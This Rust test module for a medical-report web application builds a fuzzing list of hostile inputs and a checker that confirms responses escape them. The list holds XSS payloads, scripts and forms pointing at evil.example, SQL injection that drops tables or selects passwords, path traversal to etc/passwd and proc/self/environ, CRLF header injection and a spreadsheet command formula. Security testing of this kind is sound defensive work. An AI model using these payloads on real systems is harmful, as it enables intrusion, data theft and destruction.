//! Hostile words, the forms and paths they are put in, and what an answer to them must not hold.

use std::collections::BTreeSet;

use regex::Regex;

use super::serve::Page;

/// Every breakout with every script, every quote with every statement, every way up with every file, and what is left.
#[expect(clippy::too_many_lines, reason = "a list")]
pub(crate) fn payloads() -> Vec<String> {
    let product = |fronts: &[&str], backs: &[&str]| -> Vec<String> {
        let each = |front: &&str| {
            backs
                .iter()
                .map(|b| format!("{front}{b}"))
                .collect::<Vec<_>>()
        };
        fronts.iter().flat_map(each).collect()
    };
    let mut all = product(
        &[
            "",
            "\">",
            "'>",
            "</textarea>",
            "</title>",
            "-->",
            "]]>",
            "</script>",
            "</style>",
            "` ",
        ],
        &[
            "<script>window.ran=1</script>",
            "<ScRiPt src=//evil.example></sCrIpT>",
            "<img src=x onerror=window.ran=1>",
            "<svg/onload=window.ran=1>",
            "<svg><script>window.ran=1</script></svg>",
            "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
            "<a href=javascript:window.ran=1 autofocus onfocus=window.ran=1>x</a>",
            "<details open ontoggle=window.ran=1>",
            "<form action=//evil.example><input name=csrf>",
            "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
            "<style>*{background:url(//evil.example)}</style>",
        ],
    );
    all.extend(product(
        &["", "\"", "'"],
        &[
            " onmouseover=window.ran=1 ",
            " autofocus onfocus=window.ran=1 x=",
            " style=animation-name:x onanimationstart=window.ran=1 ",
        ],
    ));
    all.extend(product(
        &["'", "\"", "`", "1", "')", "\\'"],
        &[
            " OR 1=1 --",
            "; DROP TABLE reports; --",
            "; UPDATE audit SET actor='x'; --",
            " UNION SELECT name, password, 3, 4 FROM users --",
            "/**/OR/**/''='",
            "||(SELECT hex(randomblob(9)))||'",
            "; ATTACH DATABASE 'stolen.db' AS s; --",
        ],
    ));
    all.extend(product(
        &[
            "../",
            "..\\",
            "/",
            "%2e%2e%2f",
            "..%2f",
            "..%5c",
            "%252e%252e%252f",
            "....//",
            "file:///",
        ],
        &["etc/passwd", "queue.db.key", "proc/self/environ"],
    ));
    all.extend(
        [
            "javascript:window.ran=1",
            "data:text/html,<script>window.ran=1</script>",
            "//evil.example/",
            "%3Cscript%3Ewindow.ran=1%3C/script%3E",
            "&lt;script&gt;window.ran=1&lt;/script&gt;",
            "&#60;script&#62;window.ran=1&#60;/script&#62;",
            "\\u003cscript\\u003ewindow.ran=1",
            "<scr\u{0}ipt>window.ran=1</script>",
            "\u{ff1c}script\u{ff1e}window.ran=1",
            "x\r\nSet-Cookie: ran=1\r\n\r\n<script>window.ran=1</script>",
            "x%0d%0aSet-Cookie:%20ran=1",
            "\u{1b}[31mred",
            "\u{202e}txt.exe",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "%s%s%n%x",
            "=cmd|' /C calc'!A0",
            "-1",
            "0",
            "9223372036854775807",
            "9223372036854775808",
            "1e309",
            "NaN",
            "0x10",
            "1 ",
            "null",
            "true",
            "\u{0}",
            "\t",
            "\u{feff}",
            "''",
            "\"\"",
        ]
        .map(str::to_owned),
    );
    all.push("A".repeat(5000));
    all.push("<b>".repeat(2000));
    let different: BTreeSet<&String> = all.iter().collect();
    assert!(
        different.len() == all.len() && all.len() >= 200,
        "{}",
        all.len()
    );
    all
}

/// Forms that go through, by path: what is sent besides the token. `{fence}` is the claim's number.
pub(crate) fn forms(path: &str) -> Vec<Vec<(&'static str, &'static str)>> {
    let suggestion = ("suggestion", "37252 left common-iliac-vein");
    let fence = ("fence", "{fence}");
    let vessel = [
        ("code", "37253"),
        ("side", "left"),
        ("vessel", "common iliac vein"),
        ("note", "seen"),
    ];
    match path {
        "/views" => vec![vec![("query", "state=all"), ("name", "mine")]],
        "/reports/find" => vec![vec![("id", "x")]],
        "/reports/next" => vec![vec![("after", "0"), ("list", "site=North")]],
        "/reports/{id}/heartbeat" | "/reports/{id}/accept-all" | "/reports/{id}/finish" => {
            vec![vec![fence]]
        }
        "/reports/assign" => vec![vec![
            ("to", "2"),
            ("which", "chosen"),
            ("report", "1"),
            ("list", "state=all"),
        ]],
        "/reports/{id}/assign" => vec![vec![("to", "2")]],
        "/reports/{id}/hold" => vec![vec![fence, ("reason", "second_opinion"), ("note", "why")]],
        "/reports/{id}/unhold" => vec![vec![("hold", "1")]],
        "/reports/{id}/decide" => vec![
            vec![fence, ("verdict", "accept"), suggestion],
            vec![
                fence,
                ("verdict", "reject"),
                suggestion,
                ("reason", "other"),
                ("note", "why"),
            ],
            [
                vec![fence, ("verdict", "change"), suggestion],
                vessel.to_vec(),
            ]
            .concat(),
            [
                vec![fence, ("verdict", "add"), ("start", "0"), ("end", "4")],
                vessel.to_vec(),
            ]
            .concat(),
            vec![fence, ("verdict", "withdraw"), suggestion],
        ],
        "/reports/{id}/ask" => vec![vec![("flag", "0"), ("question", "Please say more.")]],
        "/queries/{id}/end" => vec![vec![("outcome", "seen")]],
        "/check" | "/check/marks" => vec![vec![(
            "text",
            "IVUS of the left common iliac vein was done.",
        )]],
        "/people" => vec![vec![
            ("name", "x"),
            ("role", "coder"),
            ("physician", ""),
            ("site", ""),
        ]],
        "/people/{id}" => vec![vec![("role", "viewer"), ("physician", "x"), ("site", "x")]],
        "/people/{id}/active" => vec![vec![("active", "yes")]],
        "/account/password" => vec![vec![
            ("password", "x"),
            ("new", "x"),
            ("again", "x"),
            ("code", "x"),
        ]],
        "/second-factor" => vec![vec![("salt", "x"), ("code", "000000")]],
        _ => vec![Vec::new()],
    }
}

/// A path with its parts filled: each with a word of ours, or one of them with another.
pub(crate) fn filled(path: &str, part: &str, with: &str) -> String {
    let mut done = String::new();
    for segment in path.split('/').skip(1) {
        done.push('/');
        match segment {
            s if s == part => done.push_str(&escaped(with)),
            "{token}" => done.push_str("none"),
            // One that nobody has: none of those in use is to end.
            "{session}" => done.push_str("999"),
            "{form}" => done.push_str("decisions.csv"),
            s if s.starts_with('{') => done.push('1'),
            s => done.push_str(s),
        }
    }
    done
}

/// A word in a path or behind a `?`; what is escaped already stays so.
pub(crate) fn escaped(word: &str) -> String {
    let coded = |b: u8| match b {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'%' | b'.' | b'-' | b'_' => {
            char::from(b).to_string()
        }
        b => format!("%{b:02X}"),
    };
    word.bytes().map(coded).collect()
}

/// What an answer with hostile words must be.
pub(crate) struct Judge {
    tag: Regex,
    value: Regex,
    address: Regex,
}

impl Judge {
    pub(crate) fn new() -> Self {
        Self {
            tag: Regex::new(r"<[a-zA-Z/!?][^>]*>").unwrap(),
            value: Regex::new(r#""[^"]*""#).unwrap(),
            address: Regex::new(r#"(?:href|src|action)="([^"]*)""#).unwrap(),
        }
    }

    pub(crate) fn judge(&self, page: &Page, what: &str) {
        let fault = self.fault(page);
        assert!(fault.is_none(), "{what}: {fault:?}");
    }

    /// What must not be: a failure, a header of the sender's, and in HTML a tag, attribute or address that is not the program's.
    pub(crate) fn fault(&self, page: &Page) -> Option<String> {
        if page.status >= 500 || page.status == 0 {
            return Some(format!("status {}", page.status));
        }
        if page
            .headers
            .iter()
            .any(|(n, v)| n == "set-cookie" && v.starts_with("ran"))
        {
            return Some("a header of the sender's".to_owned());
        }
        let own = |to: &str| {
            to.starts_with('#')
                || to.starts_with('/') && !to.starts_with("//") && !to.starts_with("/\\")
        };
        let to = page.header("location");
        if !to.is_empty() && !own(to) {
            return Some(format!("leads to {to}"));
        }
        if !page.header("content-type").starts_with("text/html") {
            return None;
        }
        let policy = page.header("content-security-policy");
        if !policy.contains("script-src 'self'") {
            return Some("no policy".to_owned());
        }
        for tag in self.tag.find_iter(&page.body) {
            let tag = tag.as_str();
            let bare = self.value.replace_all(tag, "");
            let script = tag.starts_with("<script") && tag != "<script src=\"/app.js\" defer>";
            let foreign = [
                "<iframe",
                "<img",
                "<meta http-equiv=r",
                "<object",
                "<embed",
                "<base",
            ];
            let words = ["ran", "evil", " on"].iter().any(|w| bare.contains(w));
            let mut leads = self.address.captures_iter(tag).map(|c| !own(&c[1]));
            if script || words || foreign.iter().any(|t| tag.starts_with(t)) || leads.any(|l| l) {
                return Some(tag.to_owned());
            }
        }
        let title = page.body.split("<title>").nth(1)?;
        let title = title.split("</title>").next()?;
        title.contains("ran=1").then(|| "the title".to_owned())
    }
}

#[test]
fn what_is_put_in_unescaped_would_be_seen() {
    let judge = Judge::new();
    let page = |word: &str, attribute: bool| Page {
        status: 200,
        headers: [
            ("content-type", "text/html"),
            ("content-security-policy", "script-src 'self'"),
        ]
        .map(|(n, v)| (n.to_owned(), v.to_owned()))
        .to_vec(),
        body: if attribute {
            format!("<p title=\"{word}\">x</p>")
        } else {
            format!("<p>{word}</p>")
        },
    };
    let is_seen = |word: &str, attribute| judge.fault(&page(word, attribute)).is_some();
    let all = payloads();
    let seen = all.iter().filter(|w| is_seen(w, false)).count();
    let tags = all.iter().filter(|w| w.contains('<')).count();
    assert!(seen > 90, "{seen} of {tags}");
    assert!(is_seen("\" onmouseover=window.ran=1 ", true));
    assert!(is_seen("\"><script>window.ran=1</script>", true));
    judge.judge(&page("&lt;script&gt;window.ran=1", false), "escaped");
}
